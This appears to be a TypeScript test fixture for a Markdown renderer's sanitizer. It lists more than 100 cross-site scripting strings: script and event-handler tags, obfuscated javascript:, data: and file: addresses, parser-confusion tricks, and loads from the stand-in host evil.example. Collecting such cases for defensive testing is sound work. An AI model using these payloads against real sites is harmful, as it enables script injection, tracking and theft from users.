/**
 * Texts that try to run a script or to call another host when Markdown is shown. `RUN` sets a mark on the window; the
 * hosts do not exist.
 */
const RUN = 'window.__ran=1'
const HOST = 'evil.example'

/** Handlers of elements that load, fail or begin by themselves. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src="//${HOST}/x.js"></script>`,
  `<SCRIPT/SRC=//${HOST}/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"//`,
  `<IMG """><script>${RUN}</script>">`,
  `<img/src="x"/onerror=${RUN}>`,
  `<img src=\`x\` onerror=${RUN}>`,
  `<img srcset="x 1x" onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<video src=x onerror=${RUN}></video>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<button autofocus onfocus=${RUN}>x</button>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div style="animation:x" onanimationstart=${RUN}>x</div><style>@keyframes x{}</style>`,
  `<style>@import "//${HOST}/x.css";</style>`,
  `<link rel=stylesheet href="//${HOST}/x.css">`,
  `<link rel=prefetch href="https://${HOST}/x">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=https://${HOST}/">`,
  `<base href="https://${HOST}/">`,
  `<form action="javascript:${RUN}"><input type=submit></form>`,
  `<isindex type=image src=x onerror=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<title><img src=x onerror=${RUN}></title>`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?php echo 1 ?><img src=x onerror=${RUN}>`,
  `<x onclick=${RUN} tabindex=1 id=x autofocus onfocus=${RUN}>x</x>`,
  `<table background="javascript:${RUN}"><td>x</table>`,
  `<img src="x" style="background:url(https://${HOST}/x)">`,
  `<p id="root">x</p><a name="location" href="//${HOST}">x</a>`,
]

/** Addresses that would run when they are followed, in each place where Markdown has one. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript&colon;${RUN}`,
  `javascript&colon;${RUN}`,
  `&#1;javascript:${RUN}`,
  `javascript://x%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload="${RUN}"/>`,
  `blob:https://${HOST}/x`,
  `file:///etc/passwd`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
]
const linked = ADDRESSES.flatMap((address) => [`[x](<${address}>)`, `![x](<${address}>)`])

/** Where Markdown and HTML meet. */
const MIXED = [
  `[x]: javascript:${RUN}\n\n[x]`,
  `<javascript:${RUN}>`,
  `[x](javascript:${RUN} "title")`,
  `![x](https://${HOST}/pixel.png)`,
  `![x](//${HOST}/pixel.png)`,
  `![x][y]\n\n[y]: https://${HOST}/pixel.png`,
  `[![x](https://${HOST}/pixel.png)](javascript:${RUN})`,
  `![x" onerror="${RUN}](x)`,
  `[x](/a" onclick="${RUN})`,
  `\`\`\`html" onclick="${RUN}\n<script>${RUN}</script>\n\`\`\``,
  `\`<script>${RUN}</script>\``,
  `    <script>${RUN}</script>`,
  `# <img src=x onerror=${RUN}>`,
  `- <img src=x onerror=${RUN}>`,
  `> <img src=x onerror=${RUN}>`,
  `|a|\n|-|\n|<img src=x onerror=${RUN}>|`,
  `**<img src=x onerror=${RUN}>**`,
  `[<img src=x onerror=${RUN}>](/a)`,
  `<a href="javascript:${RUN}">[x](/a)</a>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
]

/** More than 100 texts. */
export const SCRIPT_ATTACKS: readonly string[] = [...ELEMENTS, ...linked, ...MIXED]
